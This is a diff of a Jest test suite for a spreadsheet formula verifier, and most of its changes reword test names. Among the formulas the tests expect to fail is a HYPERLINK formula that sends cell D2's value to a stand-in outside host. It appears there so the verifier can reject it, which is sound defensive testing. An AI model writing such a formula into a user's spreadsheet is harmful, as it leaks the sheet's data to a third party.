@@ -1,4 +1,4 @@
-// What a formula's verdict is measured by: the data, the question, the examples, and the formula itself.
+// The verdict of a formula: depending on the data, the question, the examples, and the formula itself.
 import { afterAll, beforeAll, expect, test } from "@jest/globals";
 import type { Request } from "../src/stated.ts";
 import { verifying } from "../src/verify.ts";
@@ -27,7 +27,7 @@ const total: Request = {
 };
 const right = '=SUMIFS(D2:D6,B2:B6,"North",C2:C6,"Paid")';
 
-test("a right formula is verified on the data, with the sheet, its value and its steps", async () => {
+test("a right formula is verified, and the answer has the data, its value and its steps", async () => {
   const found = await verify(right, total);
 
   expect(found).toMatchObject({ formula: right, verdict: "verified", problems: [] });
@@ -38,7 +38,7 @@ test("a right formula is verified on the data, with the sheet, its value and its
   expect(found.worksIn).toMatchObject({ excel: "2007", sheets: true });
 });
 
-test("dates, percentages and money are known as such in the cells, the steps and the value", async () => {
+test("cells, steps and results have the formats of dates, percentages and money", async () => {
   const data = [
     "Order\tOrdered\tPrice\tDiscount",
     "A-1\t2026-01-05\t€120.00\t5%",
@@ -61,31 +61,35 @@ test("dates, percentages and money are known as such in the cells, the steps and
 const wrong: [string, string, Request?][] = [
   ["an operand is missing", "=SUM(D2:D6)*/2"],
   ["a function is invented", '=SUMWHEN(D2:D6,B2:B6,"North",C2:C6,"Paid")'],
-  ["it is in prose", "Add the paid amounts of the North."],
-  ["a criterion is left out", '=SUMIFS(D2:D6,B2:B6,"North")'],
-  ["another value is chosen", '=SUMIFS(D2:D6,B2:B6,"South",C2:C6,"Paid")'],
+  ["it is prose", "Add the paid amounts of the North."],
+  ["a criterion is missing", '=SUMIFS(D2:D6,B2:B6,"North")'],
+  ["it tests another value", '=SUMIFS(D2:D6,B2:B6,"South",C2:C6,"Paid")'],
   ["a range misses the last row", '=SUMIFS(D2:D5,B2:B5,"North",C2:C5,"Paid")'],
   ["ranges begin in different rows", '=SUMIFS(D2:D6,B1:B5,"North",C2:C6,"Paid")'],
-  ["the criterion stands in another column", '=SUMIFS(D2:D6,A2:A6,"North",C2:C6,"Paid")'],
-  ["the summed column holds texts", '=SUMIFS(A2:A6,B2:B6,"North",C2:C6,"Paid")'],
+  ["a criterion tests another column", '=SUMIFS(D2:D6,A2:A6,"North",C2:C6,"Paid")'],
+  ["the summed column contains texts", '=SUMIFS(A2:A6,B2:B6,"North",C2:C6,"Paid")'],
   ["quotes are missing", '=SUMIFS(D2:D6,B2:B6,North,C2:C6,"Paid")'],
-  ["the result is written down", "=180"],
-  ["conditions are added", '=SUMIF(B2:B6,"North",D2:D6)+SUMIF(C2:C6,"Paid",D2:D6)'],
-  ["it brings an address", `=HYPERLINK("https://x.example/?q="&D2,"${"North Paid"}")`],
+  ["it is a constant", "=180"],
+  ["sums of two conditions are added", '=SUMIF(B2:B6,"North",D2:D6)+SUMIF(C2:C6,"Paid",D2:D6)'],
+  ["it contains a URL", `=HYPERLINK("https://x.example/?q="&D2,"${"North Paid"}")`],
   [
-    "the range holds its own cell",
+    "a range includes its own cell",
     "=SUM(D2:D7)",
     { question: "Total of Amount. It goes into D7", data: orders },
   ],
-  ["a range moves", "=D2/SUM(D2:D6)", { question: "Share of Amount in the total, in E2:E6", data: orders }],
   [
-    "a cell stays",
+    "a range is not fixed",
+    "=D2/SUM(D2:D6)",
+    { question: "Share of Amount in the total, in E2:E6", data: orders },
+  ],
+  [
+    "a cell is fixed by mistake",
     "=$D$2/SUM($D$2:$D$6)",
     { question: "Share of Amount in the total, in E2:E6", data: orders },
   ],
-  ["it looks up nearly", '=VLOOKUP("A-4",A2:D6,4)', { question: 'Amount of order "A-4"', data: orders }],
+  ["a lookup is approximate", '=VLOOKUP("A-4",A2:D6,4)', { question: 'Amount of order "A-4"', data: orders }],
   [
-    "a limit is compared otherwise",
+    "a limit is excluded by mistake",
     '=COUNTIF(D2:D6,">80")',
     { question: "How many amounts are at least 80?", data: orders },
   ],
@@ -95,13 +99,13 @@ const wrong: [string, string, Request?][] = [
     { question: 'E2:E6: "big" if Amount is at least 100, otherwise "small"', data: orders },
   ],
   [
-    "an error arises in a row",
+    "it gives an error in one row",
     "=D2/(D2-80)",
     { question: "In E2:E6 Amount by Amount less 80", data: orders },
   ],
 ];
 
-test.each(wrong)("a formula fails where %s", async (_why, formula, request = total) => {
+test.each(wrong)("a formula fails if %s", async (_why, formula, request = total) => {
   const { verdict, problems } = await verify(formula, request);
 
   expect(verdict).toBe("failed");
@@ -131,7 +135,7 @@ test.each(sound)("%s is verified", async (_what, formula, request) => {
   expect([verdict, problems]).toEqual(["verified", []]);
 });
 
-test("without data a formula is run on made-up data, says so, and is never verified", async () => {
+test("without data a formula is run on made-up data and is never verified", async () => {
   const found = await verify('=SUMIFS(C:C,A:A,"Paid")', { question: "Sum of what is paid" });
 
   expect([found.verdict, found.evidence?.ranOn]).toEqual(["checked", "made"]);
@@ -139,7 +143,7 @@ test("without data a formula is run on made-up data, says so, and is never verif
   expect(found.run?.value).not.toBe(0);
 });
 
-test("a formula is shown as the person writes: German names, semicolons, decimal commas", async () => {
+test("a formula is shown in the user's formula locale: German names, semicolons, decimal commas", async () => {
   const german = { dialect: "excel", locale: { functionLanguage: "de", separator: ";" } } as const;
   const request: Request = { ...german, question: "Verdoppeln" };
 
@@ -148,7 +152,7 @@ test("a formula is shown as the person writes: German names, semicolons, decimal
   expect((await verify("=IF(A1>1;A1*2;0)", request)).formula).toBe("=WENN(A1>1;A1*2;0)");
 });
 
-test("what only the other product has is carried over where it can be said exactly, and fails where it cannot", async () => {
+test("functions of the other product are translated if there is an exact equivalent, else the formula fails", async () => {
   const sheets: Request = { dialect: "sheets", question: "Split" };
 
   const before = await verify('=TEXTBEFORE(A2,"-")', sheets);
@@ -158,7 +162,7 @@ test("what only the other product has is carried over where it can be said exact
   expect([spilled.verdict, spilled.formula]).toEqual(["checked", "=A2:A9*2"]);
 });
 
-test("examples decide: a formula counts only if it reproduces them, and the row that differs is told", async () => {
+test("a formula fails unless it reproduces the examples, and the differing example is reported", async () => {
   const examples = [
     { inputs: ["10", "3"], wanted: "30" },
     { inputs: ["7", "2"], wanted: "14" },
@@ -176,7 +180,7 @@ test("examples decide: a formula counts only if it reproduces them, and the row 
   expect(failed.problems[0]?.message).toContain("Example 1 wants 30, but the formula gives 13");
 });
 
-test("each of several examples is a row, so that a formula for each row leaves no word unused", async () => {
+test('several examples count as rows, so "in each row" is not reported as unused', async () => {
   const examples = [
     { inputs: ["2", "3"], wanted: "5" },
     { inputs: ["10", "4"], wanted: "14" },
@@ -187,7 +191,7 @@ test("each of several examples is a row, so that a formula for each row leaves n
   expect([found.verdict, found.evidence?.unused]).toEqual(["verified", []]);
 });
 
-test("a formula that cannot be run on the data is not said to have run on made-up rows", async () => {
+test("the evidence of a formula that cannot be run does not claim made-up rows", async () => {
   const { verdict, run, evidence } = await verify("=PHONETIC(A2)", {
     question: "How is A2 read?",
     data: orders,
@@ -203,7 +207,7 @@ test("a formula that never ends is stopped, and the next one runs", async () => 
   expect((await verify("=A1*2", { question: "" })).run).toBeDefined();
 });
 
-test("no text makes the check throw", async () => {
+test("verifying never throws, whatever the text", async () => {
   for (const body of [
     "",
     "=",
@@ -221,9 +225,9 @@ test("no text makes the check throw", async () => {
 });
 
 test.each([
-  ["turned round", '=SUMIFS(D2:D6,B2:B6,"North",C2:C6,"<>Paid")'],
-  ["averaged", '=AVERAGEIFS(D2:D6,B2:B6,"North",C2:C6,"Paid")'],
-])("a formula that only the words of the question speak against is doubted: %s", async (_why, formula) => {
+  ["a negated condition", '=SUMIFS(D2:D6,B2:B6,"North",C2:C6,"<>Paid")'],
+  ["an average instead of a sum", '=AVERAGEIFS(D2:D6,B2:B6,"North",C2:C6,"Paid")'],
+])("a formula that contradicts the question is not verified: %s", async (_why, formula) => {
   const { verdict, problems } = await verify(formula, total);
 
   expect(["checked", "failed"]).toContain(verdict);
